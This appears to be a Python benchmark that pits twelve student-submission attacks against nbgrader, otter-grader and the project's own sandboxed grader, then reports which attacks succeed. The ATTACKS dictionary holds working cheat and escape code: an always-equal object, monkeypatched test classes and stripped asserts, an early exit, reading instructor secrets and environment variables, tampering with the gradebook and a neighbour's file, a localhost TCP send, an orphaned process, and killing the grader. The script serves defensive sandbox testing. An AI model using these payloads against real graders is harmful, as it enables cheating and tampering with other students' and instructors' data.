"""The portable attacks against stock nbgrader, otter-grader and this grader.

All three grade the same small class in one run: an honest student, a wrong one, and
one attacker at a time with the wrong one's code and an attack before it. What is told
is what happened: points for wrong code, a secret printed, a file or process left, a
neighbour's submission or the gradebook changed, the grader ended. otter-grader is
installed in an environment of its own (`--otter` names one that is there); it runs
without its Docker image, as `otter run` does. nbgrader and otter grade a function
`double`; this grader grades its own assignment `attention_head`.

    python benchmarks/attacks_elsewhere.py [--otter DIR]
"""

from __future__ import annotations

import argparse
import json
import os
import secrets
import shutil
import signal
import socket
import sqlite3
import subprocess
import sys
import tempfile
import time
import zipfile
from pathlib import Path

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook

from autograder.authoring.release import filled_notebook
from autograder.authoring.source import read_solution
from autograder.course import load_course
from autograder.grading.classroom import Grader, Workplace
from autograder.nbgrading import tools_on_path
from autograder.sandbox.host import Sandbox

TOKEN = secrets.token_hex(8)
SECONDS = 300
RIGHT = "def double(x):\n    return 2 * x\n"
WRONG = "def double(x):\n    return 0 * x\n"
TEST = "assert double(3) == 6\nassert double(-4) == -8\n"
EQUAL = """
class Equal:
    def __eq__(self, other): return True
    def __mul__(self, other): return self
    __rmul__ = __mul__
def {function}(*arguments, **named):
    return Equal()
"""
# Code before the wrong solution; capitals are facts told to the attacker.
ATTACKS = {
    "an object equal to everything": EQUAL,
    "skip-execution on the tests": "",
    "an exit before the tests": "import os, sys; sys.stdout.flush(); os._exit(0)",
    "tests replaced in the frame": """
import sys
for module in list(sys.modules.values()):
    for name in ("OKTestFile", "ExceptionTestFile"):
        cls = getattr(module, name, None)
        if isinstance(cls, type):
            def run(self, *arguments, **named):
                results = []
                for case in self.test_cases:
                    results.append(sys.modules[type(self).__mro__[1].__module__]
                                   .TestCaseResult(case, None, True))
                self.test_case_results = results
            cls.run = run
get_ipython().ast_transformers.append(type("T", (), {"visit": lambda self, tree: (
    setattr(tree, "body", [n for n in tree.body
                           if type(n).__name__ != "Assert"]), tree)[1]})())
""",
    "read the instructor's files": """
found = open(SECRET).read()
print(found)
open(LOOT, "w").write(found)
""",
    "read the environment": """
import os
found = os.environ["CANARY"]
print(found)
open(LOOT, "w").write(found)
""",
    "write the gradebook": """
import sqlite3
sqlite3.connect(GRADEBOOK).execute("create table planted (x)").connection.commit()
""",
    "change a neighbour's submission": "open(NEIGHBOUR, 'a').write(' ')",
    "plant a file at home": "open(PLANTED, 'w').close()",
    "send by TCP": """
import socket
with socket.create_connection(("127.0.0.1", PORT), 2) as s: s.send(b"stolen")
""",
    "leave a process behind": """
import subprocess
subprocess.Popen(["sleep", "41.5"], start_new_session=True)
""",
    "kill the grader": """
import os, signal
os.kill(os.getppid(), signal.SIGKILL)
""",
}


def main() -> None:
    options = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    options.add_argument("--otter", type=Path, help="an environment with otter-grader")
    options.add_argument("--only", nargs="*", help="words of the attacks to try")
    chosen = options.parse_args()
    tools_on_path()
    words = chosen.only or [""]
    names = [name for name in ATTACKS if any(word in name for word in words)]
    lost: dict[str, dict[str, str]] = {name: {} for name in names}
    with tempfile.TemporaryDirectory() as name:
        root = Path(name)
        otter = chosen.otter or install_otter(root / "otter-venv")
        graders = (Nbgrader(root / "nb"), Otter(root / "ot", otter), Ours(root / "us"))
        for grader in graders:
            assert grader.score("honest", RIGHT) > 0, f"{grader.name}: honest"
            assert grader.score("wrong", WRONG) == 0, f"{grader.name}: wrong"
            for attack in names:
                told = losses(grader, attack, ATTACKS[attack]) or "held"
                lost[attack][grader.name] = told
                print(f"{grader.name}: {attack}: {told}", flush=True)
    print()
    print(table(lost, [grader.name for grader in graders]))


def table(lost: dict[str, dict[str, str]], names: list[str]) -> str:
    """Returns who lost what, in Markdown."""
    lines = [f"| attack | {' | '.join(names)} |", "|---" * (len(names) + 1) + "|"]
    for attack, told in lost.items():
        cells = [told[name] for name in names]
        lines.append(f"| {attack} | {' | '.join(cells)} |")
    return "\n".join(lines)


def losses(grader, attack: str, code: str) -> str:
    """Lets one attacker be graded; says in words what was lost."""
    with socket.create_server(("127.0.0.1", 0)) as listener:
        facts = grader.bait() | {"PORT": listener.getsockname()[1]}
        told = "".join(f"{name} = {value!r}\n" for name, value in facts.items())
        score = grader.score("attacker", f"{told}{code}", "skip" in attack)
        found = []
        if score is None:
            found.append(grader.output)
        elif score > 0:
            found.append(f"{score:g} points for wrong code")
        loot = Path(facts["LOOT"])
        if TOKEN in grader.told() or loot.exists():
            found.append("a secret")
            loot.unlink(missing_ok=True)
        listener.settimeout(0.2)
        try:
            listener.accept()
            found.append("data by the network")
        except OSError:
            pass
        found += changed(facts) + end_processes()
    return ", ".join(found)


def changed(facts: dict) -> list[str]:
    """Says which baits were touched; lays them out anew is the grader's to do."""
    found = []
    tables = "select name from sqlite_master where name = 'planted'"
    book = sqlite3.connect(facts["GRADEBOOK"])
    if book.execute(tables).fetchall():
        found.append("the gradebook")
        book.execute("drop table planted")
        book.commit()
    book.close()
    if Path(facts["NEIGHBOUR"]).read_text().endswith(" "):
        found.append("a neighbour's file")
    if Path(facts["PLANTED"]).exists():
        Path(facts["PLANTED"]).unlink()
        found.append("a file at home")
    return found


def end_processes() -> list[str]:
    """Ends what the attack left running, known by its odd argument."""
    time.sleep(0.3)
    left = []
    for name in filter(str.isdigit, os.listdir("/proc")):
        try:
            if b"sleep\x0041.5" in Path(f"/proc/{name}/cmdline").read_bytes():
                os.kill(int(name), signal.SIGKILL)
                left = ["a process left"]
        except OSError:
            continue
    return left


class Elsewhere:
    """What the graders have in common: a folder with bait in it."""

    def __init__(self, root: Path):
        self.root = root
        root.mkdir(parents=True)
        (root / "solution.txt").write_text(f"secret {TOKEN}")
        self.book = root / "gradebook.db"
        self.output = ""

    def bait(self) -> dict:
        neighbour = self.root / "neighbour.ipynb"
        neighbour.write_text("{}")
        if not self.book.exists():
            sqlite3.connect(self.book).execute(
                "create table grades (x)"
            ).connection.commit()
        return {
            "SECRET": str(self.root / "solution.txt"),
            "GRADEBOOK": str(self.book),
            "NEIGHBOUR": str(neighbour),
            "LOOT": str(self.root / "loot.txt"),
            "PLANTED": str(Path.home() / "planted-by-an-attack"),
        }

    def told(self) -> str:
        """Returns everything that the last grading put before a person."""
        return self.output

    def run(self, *arguments: object, cwd: Path) -> int:
        environment = {**os.environ, "CANARY": TOKEN}
        environment.pop("PYTHONPATH", None)
        try:
            done = subprocess.run(
                list(map(str, arguments)),
                cwd=cwd,
                env=environment,
                capture_output=True,
                text=True,
                timeout=SECONDS,
            )
        except subprocess.TimeoutExpired:
            self.output = f"no result in {SECONDS} s"
            return -1
        self.output = done.stdout + done.stderr
        if done.returncode < 0:
            self.output = "the grader was ended"
        return done.returncode


class Nbgrader(Elsewhere):
    name = "nbgrader"

    def __init__(self, root: Path):
        super().__init__(root)
        source = root / "source" / "a1"
        source.mkdir(parents=True)
        (root / "nbgrader_config.py").write_text(
            "c = get_config()\nc.CourseDirectory.course_id = 'b'\n"
        )
        common = {"schema_version": 3, "locked": False, "task": False}
        solution = dict(common, grade=False, solution=True, grade_id="double")
        test = dict(common, grade=True, solution=False, grade_id="test", points=3)
        cells = [
            new_code_cell("### BEGIN SOLUTION\n### END SOLUTION"),
            new_code_cell(TEST),
        ]
        cells[0].metadata["nbgrader"] = solution
        cells[1].metadata["nbgrader"] = dict(test, locked=True)
        nbformat.write(notebook(cells), source / "p.ipynb")
        assert not self.nbgrader("generate_assignment", "a1", "--force"), self.output

    def nbgrader(self, *arguments: str) -> int:
        return self.run(sys.executable, "-m", "nbgrader", *arguments, cwd=self.root)

    def score(self, student: str, code: str, skip: bool = False) -> float | None:
        shutil.rmtree(self.root / "autograded", ignore_errors=True)
        folder = self.root / "submitted" / student / "a1"
        folder.mkdir(parents=True, exist_ok=True)
        handed_in = nbformat.read(self.root / "release" / "a1" / "p.ipynb", 4)
        handed_in.cells[0].source = code if "def double" in code else mixed(code)
        if skip:
            handed_in.cells[1].metadata["tags"] = ["skip-execution"]
        nbformat.write(handed_in, folder / "p.ipynb")
        code = self.nbgrader("autograde", "a1", "--student", student, "--force")
        if code < 0:
            return None
        for path in (self.root / "autograded").rglob("*.ipynb"):
            self.output += path.read_text()
        query = (
            "select g.auto_score from grade g join submitted_notebook n on "
            "g.notebook_id = n.id join submitted_assignment a on "
            "n.assignment_id = a.id where a.student_id = ?"
        )
        book = sqlite3.connect(self.book)
        rows = book.execute(query, (student,)).fetchall()
        book.close()
        return sum(score or 0.0 for (score,) in rows)


class Otter(Elsewhere):
    name = "otter run"

    def __init__(self, root: Path, venv: Path):
        super().__init__(root)
        self.program = venv / "bin" / "otter"
        raw = nbformat.v4.new_raw_cell
        cells = [
            raw("# ASSIGNMENT CONFIG\ngenerate: true\nfiles: []\nrun_tests: false\n"),
            raw("# BEGIN QUESTION\nname: double\npoints: 3\n"),
            raw("# BEGIN SOLUTION"),
            new_code_cell(RIGHT.replace("2 * x", "2 * x  # SOLUTION")),
            raw("# END SOLUTION"),
            raw("# BEGIN TESTS"),
            new_code_cell("double(3) == 6 and double(-4) == -8"),
            raw("# END TESTS"),
            raw("# END QUESTION"),
        ]  # fmt: skip
        cells[6].outputs = [
            nbformat.v4.new_output("execute_result", {"text/plain": "True"})
        ]
        nbformat.write(notebook(cells), root / "m.ipynb")
        code = self.run(self.program, "assign", "m.ipynb", "dist", cwd=root)
        assert code == 0, self.output
        (self.zip,) = (root / "dist" / "autograder").glob("*.zip")
        zipfile.ZipFile(self.zip).testzip()

    def score(self, student: str, code: str, skip: bool = False) -> float | None:
        folder = self.root / student
        shutil.rmtree(folder, ignore_errors=True)
        folder.mkdir()
        handed_in = nbformat.read(self.root / "dist" / "student" / "m.ipynb", 4)
        place = next(
            i
            for i, cell in enumerate(handed_in.cells)
            if "double" in cell.source and cell.cell_type == "code"
        )
        handed_in.cells[place].source = code if "def double" in code else mixed(code)
        if skip:
            for cell in handed_in.cells[place + 1 :]:
                cell.metadata["tags"] = ["skip-execution"]
        nbformat.write(handed_in, folder / "m.ipynb")
        arguments = ("run", "--no-logo", "-v", "-a", self.zip, "-o", folder, "m.ipynb")
        code = self.run(self.program, *arguments, cwd=folder)
        path = folder / "results.json"
        if code < 0:
            return None
        if not path.exists():
            return 0.0
        self.output += path.read_text()
        tests = json.loads(path.read_text())["tests"]
        return sum(test.get("score") or 0.0 for test in tests)


class Ours(Elsewhere):
    name = "this grader"

    def __init__(self, root: Path):
        super().__init__(root)
        os.environ["CANARY"] = TOKEN
        self.course = load_course()
        cells = read_solution(self.course, "attention_head")
        self.solutions = {
            c.marks["exercise"]: c.source for c in cells if c.role == "exercise"
        }
        self.sandbox = Sandbox(self.course.limits)
        place = Workplace(root / "out")
        place.private.mkdir(parents=True)
        self.grader = Grader(self.course, "attention_head", place, self.sandbox, 2)

    def score(self, student: str, code: str, skip: bool = False) -> float | None:
        shutil.rmtree(self.root / "submitted", ignore_errors=True)
        folder = self.root / "submitted" / student
        folder.mkdir(parents=True)
        first = next(iter(self.solutions))
        wrong = f"def {first}(query, key, attention_mask=None):\n    return query\n"
        code = code.replace("{function}", first)
        sources = {first: code if f"def {first}" in code else f"{code}\n{wrong}"}
        if code == RIGHT:
            sources = self.solutions
        handed_in = filled_notebook(self.course, "attention_head", sources)
        if skip:
            for cell in handed_in.cells:
                cell.metadata["tags"] = ["skip-execution"]
        nbformat.write(handed_in, folder / "attention_head.ipynb")
        (outcome,) = self.grader.grade(self.root / "submitted")
        told = [cell["stdout"] for cell in outcome.graded.cells]
        self.output = outcome.graded.result.model_dump_json() + "".join(told)
        return outcome.graded.result.score


def mixed(code: str) -> str:
    if "{function}" in code:
        return code.replace("{function}", "double")
    return f"{code}\n{WRONG}"


def notebook(cells: list):
    made = new_notebook(cells=[*cells, new_markdown_cell("The end.")])
    made.metadata["kernelspec"] = {
        "name": "python3",
        "display_name": "Python 3",
        "language": "python",
    }
    return made


def install_otter(place: Path) -> Path:
    subprocess.run([sys.executable, "-m", "venv", str(place)], check=True)
    pip = [str(place / "bin" / "pip"), "install", "--quiet"]
    subprocess.run([*pip, "otter-grader", "ipykernel"], check=True)
    return place


if __name__ == "__main__":
    main()
